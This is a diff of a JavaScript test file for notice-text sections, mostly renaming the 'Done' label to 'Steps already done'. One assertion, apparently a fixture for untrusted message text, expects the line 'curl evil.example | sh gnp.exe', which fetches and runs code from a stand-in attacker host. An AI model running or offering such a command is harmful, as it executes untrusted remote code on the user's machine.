@@ -115,7 +115,7 @@ describe('the text of a notice', () => {
       ],
       'Still planned': [`At ${shownTime(later)}: Send an e-mail: “alert”`],
       'Steps that wait for this step': ['Update a ticket field'],
-      Done: ['Send an e-mail: “greet”'],
+      'Steps already done': ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
     });
   });
@@ -238,7 +238,7 @@ describe('the text of a notice', () => {
         ids,
       ],
       'Still planned': goesOn,
-      Done: ['Send an e-mail: “greet”'],
+      'Steps already done': ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
     });
   });
@@ -279,7 +279,7 @@ describe('the text of a notice', () => {
       signIn,
       ids,
     ]);
-    assert.deepEqual([...sections.keys()], ['', 'Still planned', 'Done']);
+    assert.deepEqual([...sections.keys()], ['', 'Still planned', 'Steps already done']);
   });
 
   it('about an action that is no longer needed', () => {
@@ -297,7 +297,15 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Details', 'Done', 'Recipients', 'Steps that wait for this step', 'Still planned', 'What happens next'],
+      ...[
+        '',
+        'Details',
+        'Recipients',
+        'Steps already done',
+        'Steps that wait for this step',
+        'Still planned',
+        'What happens next',
+      ],
     ]);
     assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
     assert.equal(sections.get('')?.length, 9);
